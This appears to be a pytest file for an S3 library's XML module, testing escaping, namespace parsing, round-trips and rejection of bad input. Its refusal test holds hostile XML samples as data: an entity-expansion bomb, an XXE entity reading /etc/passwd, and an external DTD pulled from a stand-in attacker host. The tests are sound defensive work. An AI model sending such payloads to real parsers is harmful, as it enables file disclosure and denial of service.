"""XML as S3 reads and writes it, and what the reader refuses."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from calotype.s3 import xml

WRITABLE = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters=[*map(chr, range(32)), "\ufffe", "\uffff"])
)


def test_a_document_is_written_with_declaration_and_namespace() -> None:
    content = xml.document("Result", ("Name", 'a<b>&"c"'), ("Empty", ""), ("List", [("Item", "1"), ("Item", "2")]))
    assert content == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<Result xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Name>a&lt;b&gt;&amp;&quot;c&quot;</Name><Empty/>'
        b"<List><Item>1</Item><Item>2</Item></List></Result>"
    )


def test_what_xml_cannot_hold_is_replaced_so_that_the_rest_can_be_read() -> None:
    assert xml.parse(xml.document("Root", ("Key", "a\x00b\x1f\ufffe\rc"))).text_of("Key") == "a\ufffdb\ufffd\ufffd\rc"


@given(texts=st.lists(WRITABLE, max_size=4))
def test_what_is_written_is_read_back(texts: list[str]) -> None:
    root = xml.parse(xml.document("Root", *(("Text", text) for text in texts)))
    assert root.name == "Root"
    assert [child.text for child in root.all("Text")] == texts


def test_names_are_read_with_and_without_a_namespace() -> None:
    for content in (b'<a xmlns="urn:x"><b>1</b></a>', b"<a><b>1</b></a>", b'<x:a xmlns:x="urn:x"><x:b>1</x:b></x:a>'):
        assert xml.parse(content).text_of("b") == "1"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"no markup",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"<a>&undefined;</a>",
        b"<a>\x00</a>",
        b"<a>\xff</a>",
        # Encodings that nobody has, that are no text's, and whose characters may be several bytes.
        b'<?xml version="1.0" encoding="klingon"?><a/>',
        b'<?xml version="1.0" encoding="hex"?><a/>',
        b'<?xml version="1.0" encoding="shift_jis"?><a/>',
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b'<?xml version="1.0" encoding="idna"?><a/>',
        # Entities: the billion laughs, and a file of the server's.
        b'<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z "&x;&x;&x;">]><a>&z;</a>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>',
        b"<a>" * 17 + b"</a>" * 17,
        b"<a>" + b"<b/>" * 81_001 + b"</a>",
        b"<a>" + b" " * (8 * 1024 * 1024) + b"</a>",
    ],
)
def test_what_is_malformed_or_excessive_is_refused(content: bytes) -> None:
    with pytest.raises(xml.XMLError):
        xml.parse(content)


@given(content=st.binary(max_size=100))
def test_the_reader_answers_or_refuses_whatever_the_bytes(content: bytes) -> None:
    with contextlib.suppress(xml.XMLError):
        assert xml.parse(content).name


def test_attributes_are_written_behind_the_name_and_read_without_their_prefix() -> None:
    grantee = xml.Tag("Grantee", {"xmlns:xsi": "urn:i", "xsi:type": 'a"b'})
    content = xml.document("Root", (grantee, [("ID", "1")]), namespace=None)
    assert content.endswith(b'<Root><Grantee xmlns:xsi="urn:i" xsi:type="a&quot;b"><ID>1</ID></Grantee></Root>')
    child = xml.parse(content).child("Grantee")
    assert child is not None
    assert (child.attributes, child.text_of("ID")) == ({"type": 'a"b'}, "1")
